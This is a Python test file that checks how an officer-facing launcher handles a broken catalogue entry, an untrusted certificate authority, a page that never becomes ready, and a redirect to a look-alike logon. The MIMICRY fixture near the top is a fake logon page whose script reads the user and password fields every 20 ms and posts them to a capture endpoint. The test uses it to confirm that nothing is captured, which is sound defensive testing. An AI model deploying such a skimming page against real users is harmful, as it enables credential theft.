"""What an officer meets where a system, the provider or the catalogue is not as it should be: that alone, and said."""

from __future__ import annotations

import asyncio
import json
import ssl
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import cast

import pytest
import trustme

from tests.bench.played_station import played_station
from tests.journeys.played import DemoPlace, demo_place

pytestmark = [pytest.mark.needs("browser-engine"), pytest.mark.timeout(120)]

LURE, MIMIC = "incident-desk.localhost", "firearms-register.localhost"

# The look of the real logon, and a script that sends on whatever is put into its fields.
MIMICRY = """<!doctype html><title>Intelligence Reports</title>
<form method="post" action="/taken"><input id="user" name="user"><input id="password" name="password" type="password">
<button id="go">Log on</button></form>
<script>
setInterval(() => {
  const held = document.querySelector("#user").value + document.querySelector("#password").value;
  if (held) fetch("/taken", {method: "POST", body: held});
}, 20);
</script>"""


@contextmanager
def _mimic(folder: Path) -> Iterator[tuple[str, str, list[str]]]:
    """Serve a logon that is another's: the address that leads to it, its origin, and what was sent there."""
    taken: list[str] = []
    seen: list[str] = []

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host = self.headers["Host"]
            if host.startswith(LURE):
                self.send_response(302)
                self.send_header("Location", f"https://{host.replace(LURE, MIMIC)}/")
                self.end_headers()
                return
            seen.append(self.path)
            self._answer(MIMICRY)

        def do_POST(self) -> None:
            taken.append(self.rfile.read(int(self.headers["Content-Length"] or 0)).decode())
            self._answer("")

        def _answer(self, text: str) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(folder / "server.pem", folder / "server.key")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, name="mimic")
    thread.start()
    port = server.server_port
    try:
        yield f"https://{LURE}:{port}/", f"https://{MIMIC}:{port}", taken
        assert seen, "the officer's page never came to the mimic"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _variant(place: DemoPlace, system: str, changes: Mapping[str, str]) -> None:
    """Add an entry like the one for intelligence reports, with changes."""
    text = (place.catalogue / "intelligence-reports.toml").read_text(encoding="utf-8")
    for old, new in {'name = "Intelligence Reports"': f'name = "{system}"', **changes}.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    place.add(system, text)


def test_what_is_wrong_is_said_and_keeps_nothing_else_from_opening(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    async def journey() -> None:
        good = ("intelligence-reports", "case-file")
        async with demo_place(tmp_path, only=("custody-record", *good)) as place:
            with _mimic(tmp_path / "estate") as (lure, mimic, taken):
                # An entry with a fault; a page that never shows its marker; a page of another origin that looks right.
                place.add("broken", 'name = "Broken"\nkind = "web"\n\n[web]\nurl = 7\n')
                soon = {"within_s = 30": "within_s = 4"}
                ready = 'means = "ready"\nselector = "#work"'
                _variant(place, "never-shows", {ready: ready.replace("#work", "#never"), **soon})
                real = f"url = {json.dumps(place.addresses.systems['intelligence-reports'] + '/')}"
                _variant(place, "lured", {real: f'url = "{lure}"\nvisits = ["{mimic}"]', **soon})
                # The provider's certificate is of an authority that the station was not told to trust.
                trustme.CA().cert_pem.write_to_path(str(tmp_path / "other-ca.pem"))
                scopes = '"offline_access"]\nca_file = '
                ca_file = json.dumps(str(place.addresses.ca_file))
                place.change(f"{scopes}{ca_file}", f"{scopes}{json.dumps(str(tmp_path / 'other-ca.pem'))}")

                async with played_station(place.station, place.state) as station:
                    officer = await station.shown(warm=False)
                    await officer.log_on(place.officer.user_name, place.officer.password)
                    await officer.open_mine()
                    seen = await officer.look()
                    _judge(seen, good)
                    await officer.log_off()
            assert taken == []

    asyncio.run(journey())
    # The entry with faults is left out, and said with its place to whoever looks after the catalogue.
    said = [line for line in capfd.readouterr().err.splitlines() if "broken.toml" in line]
    assert any("broken.toml:5:" in line and "'url'" in line for line in said)


def _judge(seen: Mapping[str, object], good: tuple[str, ...]) -> None:
    launches = seen["launches"]
    assert isinstance(launches, dict)
    opened = {*good, "custody-record", "never-shows", "lured"}
    assert set(launches) == set(map(str, cast(list[str], seen["systems"]))) == opened
    assert {launches[system]["state"] for system in good} == {"ready"}

    # What needs the provider is refused by the reason; nothing else minds.
    refused = launches["custody-record"]
    assert (refused["state"], refused["reference"]) == ("failed", "provider-certificate-refused")

    # The page stays for the officer to finish by hand, with what was seen of it last.
    slow = launches["never-shows"]
    assert (slow["state"], slow["needs"], slow["surface"]) == ("needs", "finish", "never-shows")
    assert slow["says"].endswith("title 'Intelligence Reports'")
    assert "never-shows" in cast(list[str], seen["tabs"])

    lured = launches["lured"]
    assert (lured["state"], lured["reference"]) == ("failed", "page-not-expected")
